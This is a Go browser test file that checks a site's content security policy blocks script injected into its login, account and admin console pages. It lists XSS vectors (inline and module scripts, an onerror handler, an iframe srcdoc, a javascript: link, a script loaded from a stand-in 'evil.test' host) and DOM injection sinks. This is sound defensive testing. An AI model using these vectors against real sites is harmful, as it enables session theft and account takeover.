package browsertest

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// injection is what a hole in a template lets in, in all the ways that run a
// script.
const injection = `<script>window.taken = (window.taken ?? "") + "inline "</script>
<script src="http://evil.test:PORT/x.js"></script>
<script type="module">window.taken = (window.taken ?? "") + "module "</script>
<img src="data:," onerror="window.taken = (window.taken ?? '') + 'handler '">
<iframe srcdoc="<script>parent.taken = (parent.taken ?? '') + 'frame '</script>"></iframe>
<a id="url" href="javascript:void(window.taken = (window.taken ?? '') + 'url ')">x</a>`

// holed serves what target serves, with the injection in every page, and without
// its content security policy if bare.
func holed(t *testing.T, target string, bare bool) (address string) {
	t.Helper()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `window.taken = (window.taken ?? "") + "foreign "`)
	}))
	t.Cleanup(evil.Close)
	insert := strings.ReplaceAll(injection, "PORT", evil.URL[strings.LastIndexByte(evil.URL, ':')+1:])
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(p *httputil.ProxyRequest) {
			p.SetURL(u)
			p.Out.Header.Del("Accept-Encoding")
		},
		ModifyResponse: func(res *http.Response) error {
			if bare {
				res.Header.Del("Content-Security-Policy")
			}
			if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
				return nil
			}
			page, err := io.ReadAll(res.Body)
			if err != nil {
				return err
			}
			res.Body.Close()
			page = append(page, insert...)
			res.Body = io.NopCloser(bytes.NewReader(page))
			res.Header.Set("Content-Length", strconv.Itoa(len(page)))
			return nil
		},
	})
	t.Cleanup(proxy.Close)
	return onLocalhost(proxy.URL)
}

// taken opens a page with the injection and returns what of it ran.
func (b *tab) taken(address string) string {
	b.t.Helper()
	b.open(address)
	b.until(`document.readyState === "complete" && !!document.getElementById("url")`)
	return eval[string](b, `(async () => {
		document.getElementById("url").click();
		await new Promise((done) => setTimeout(done, 0)); // where the address would run
		return (window.taken ?? "").trim().split(" ").sort().join(" ");
	})()`)
}

// sinks are the ways by which text becomes script in a page whose own code is
// careless. The policy must refuse each, with nothing else in the way.
const sinks = `(() => {
	const text = "<img src=x onerror=1>", out = {};
	const ways = {
		innerHTML: () => { document.createElement("p").innerHTML = text },
		outerHTML: () => { document.body.appendChild(document.createElement("p")).outerHTML = text },
		insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", text),
		"document.write": () => document.write(text),
		srcdoc: () => { document.createElement("iframe").srcdoc = text },
		"script text": () => { document.createElement("script").text = "1" },
		"script src": () => { document.createElement("script").src = "/x.js" },
		"handler attribute": () => document.createElement("p").setAttribute("onclick", "1"),
		DOMParser: () => new DOMParser().parseFromString(text, "text/html"),
		"a policy": () => trustedTypes.createPolicy("default", { createHTML: (s) => s }),
	};
	for (const [name, way] of Object.entries(ways)) {
		try { way(); out[name] = "done" } catch (e) { out[name] = e.name }
	}
	return out;
})()`

// wantSinksClosed fails unless the page in the tab refuses all of them.
func (b *tab) wantSinksClosed() {
	b.t.Helper()
	got := eval[map[string]string](b, sinks)
	if len(got) != 10 {
		b.t.Errorf("only %d sinks were tried", len(got))
	}
	for name, what := range got {
		if what != "TypeError" {
			b.t.Errorf("%s: %s is %s", b.path(), name, what)
		}
	}
}

// req: HTTP-12, CLIENT-9
// attack: A7
func TestScriptInjectedIntoOurPagesDoesNotRun(t *testing.T) {
	s := newSite(t)
	s.addUser("ada", password, true)
	b := s.newTab()
	defer b.complaints()
	guarded, bare := holed(t, s.url, false), holed(t, s.url, true)
	const all = "foreign frame handler inline module url"
	for _, path := range []string{"/login", "/reset", "/signed-out", "/account", "/console", "/console/users", "/console/keys", "/console/audit"} {
		if path == "/account" {
			b.signIn("ada", password)
		}
		if got := b.taken(bare + path); got != all {
			t.Errorf("%s without its policy: %q ran of %q, so that the rest shows nothing", path, got, all)
		}
		if got := b.taken(guarded + path); got != "" {
			t.Errorf("%s: %q ran", path, got)
		}
		b.wantSinksClosed()
	}
}
